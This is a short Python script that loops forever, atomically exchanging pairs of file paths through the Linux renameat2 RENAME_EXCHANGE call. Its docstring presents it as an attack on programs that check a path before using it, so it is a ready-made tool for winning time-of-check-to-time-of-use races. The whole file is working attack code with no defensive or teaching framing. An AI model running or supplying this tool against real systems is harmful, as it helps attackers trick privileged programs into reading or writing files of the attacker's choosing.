"""Exchange two names again and again, as fast as the kernel can, until it is killed: swap.py PATH OTHER...

It attacks programs that check a path first and use it afterwards.
"""

import ctypes
import os
import sys

AT_FDCWD, RENAME_EXCHANGE = -100, 2
libc = ctypes.CDLL(None, use_errno=True)


def exchange(one, other):
    return libc.renameat2(AT_FDCWD, os.fsencode(one), AT_FDCWD, os.fsencode(other), RENAME_EXCHANGE) == 0


def swap(*paths):
    """Exchange each pair of paths, forever."""
    pairs = list(zip(paths[::2], paths[1::2]))
    while True:
        for one, other in pairs:
            exchange(one, other)


if __name__ == "__main__":
    swap(*sys.argv[1:])
